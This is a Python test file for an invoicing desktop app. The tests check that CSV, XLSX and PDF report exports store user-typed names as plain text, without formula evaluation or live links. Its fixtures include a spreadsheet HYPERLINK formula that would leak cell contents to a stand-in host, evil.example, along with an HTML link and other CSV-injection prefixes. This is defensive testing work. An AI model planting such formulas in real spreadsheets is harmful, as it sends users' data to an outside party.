"""Report exports keep what people typed as text: no formula in CSV or XLSX, no markup in PDF."""

from __future__ import annotations

import csv
import io
import json

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from deepetch_desktop import services as s
from deepetch_desktop.cli import main
from deepetch_desktop.documents.report_files import to_csv, to_pdf, to_xlsx
from tests.conftest import NOW

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")'
LINK = '<a href="http://evil.example/">Compta</a>'
RISKY = [FORMULA, "+33 1 23", "-2+3", "@SUM(A1:A2)", "\tTab", "\rRetour"]
HEADERS = ["Sous-compte", "Tâches", "Crédits"]
ROWS = [[name, 1, -5] for name in RISKY] + [["Camille Martin", 2, 240]]


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def pdf_reader(data: bytes) -> PdfReader:
    return PdfReader(io.BytesIO(data))


def pdf_text(reader: PdfReader) -> str:
    return " ".join(page.extract_text() for page in reader.pages)


def link_annotations(reader: PdfReader) -> list[object]:
    return [annotation.get_object() for page in reader.pages
            for annotation in page.get("/Annots", [])
            if annotation.get_object().get("/Subtype") == "/Link"]


def test_csv_quotes_text_a_spreadsheet_would_evaluate() -> None:
    read = csv_rows(to_csv(HEADERS, ROWS))
    assert read[0] == HEADERS
    assert [row[0] for row in read[1:-1]] == ["'" + name for name in RISKY]
    # numbers stay numbers, negative ones too: only text is neutralised
    assert all(row[1:] == ["1", "-5"] for row in read[1:-1])
    assert read[-1] == ["Camille Martin", "2", "240"]


def test_xlsx_stores_formula_like_names_as_strings() -> None:
    sheet = load_workbook(io.BytesIO(to_xlsx("Consommation", HEADERS, ROWS))).active
    names = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in names[:-1]] == RISKY  # intact, no quote added
    assert all(cell.data_type == "s" for cell in names)
    numbers = [cell for row in sheet.iter_rows(min_row=2) for cell in row[1:]]
    assert all(cell.data_type == "n" for cell in numbers)
    assert [cell.value for cell in numbers[:2]] == [1, -5]


def test_pdf_prints_markup_as_typed_and_links_nothing() -> None:
    rows = [[LINK, 1, 120], ["<b>Gras</b> & <i>co</i>", 2, 240]]
    reader = pdf_reader(to_pdf(f"Consommation {LINK}", "Du <1> au <2>", HEADERS, rows))
    text = pdf_text(reader)
    assert LINK in text and "<b>Gras</b> & <i>co</i>" in text and "Du <1> au <2>" in text
    assert link_annotations(reader) == []


@pytest.fixture
def cli_with_risky_names(sqlite_company, sqlite_url, capsys):  # type: ignore[no-untyped-def]
    database = sqlite_company
    for n, (name, department) in enumerate([(FORMULA, LINK), (LINK, FORMULA)]):
        sub = s.add_sub_account(database, s.ADMINISTRATOR, name=name, department=department,
                                email=f"sub{n}@a.fr", now=NOW)
        s.submit_task(database, s.ADMINISTRATOR, sub_account=sub.id, service_code="TRAD_TEXTE",
                      units=12, now=NOW)

    def run(*args: str) -> tuple[int, str]:
        code = main(["--db", sqlite_url, "--json", *args])
        out, err = capsys.readouterr()
        assert code == 0, err
        return code, out

    return run


@pytest.mark.parametrize("by", ["subaccount", "department"])
def test_cli_exports_of_names_people_typed(cli_with_risky_names, tmp_path, by) -> None:
    files = {kind: tmp_path / f"r.{kind}" for kind in ("csv", "xlsx", "pdf")}
    for path in files.values():
        _, out = cli_with_risky_names("report", "usage", "--from", "2026-11-01", "--to",
                                      "2026-11-30", "--by", by, "--output", str(path))
        assert json.loads(out)["lines"] == 2
    assert "'" + FORMULA in {row[0] for row in csv_rows(files["csv"].read_bytes())}
    sheet = load_workbook(files["xlsx"]).active
    cells = {cell.value: cell for (cell, *_) in sheet.iter_rows(min_row=2)}
    assert cells[FORMULA].data_type == "s"
    reader = pdf_reader(files["pdf"].read_bytes())
    assert LINK in pdf_text(reader) and link_annotations(reader) == []


def test_invoice_pdf_prints_what_people_typed_and_links_nothing() -> None:
    from dataclasses import replace

    from deepetch_desktop.documents.invoice_pdf import render_pdf
    from tests.integration.test_invoice_document import CREDIT_NOTE

    buyer = replace(CREDIT_NOTE.buyer, name=LINK, address=f"{LINK}\n69003 Lyon")
    seller = replace(CREDIT_NOTE.seller, name=f"<b>{LINK}</b>", legal_form="<i>SAS</i>")
    line = replace(CREDIT_NOTE.lines[0], description=f"Pack {LINK}")
    note = replace(CREDIT_NOTE, buyer=buyer, seller=seller, lines=(line,), reason=LINK)
    reader = pdf_reader(render_pdf(note))
    # narrow columns wrap the names: compare without white space
    text, link = ("".join(words.split()) for words in (pdf_text(reader), LINK))
    assert text.count(link) == 6 and "<i>SAS</i>" in text
    assert link_annotations(reader) == []
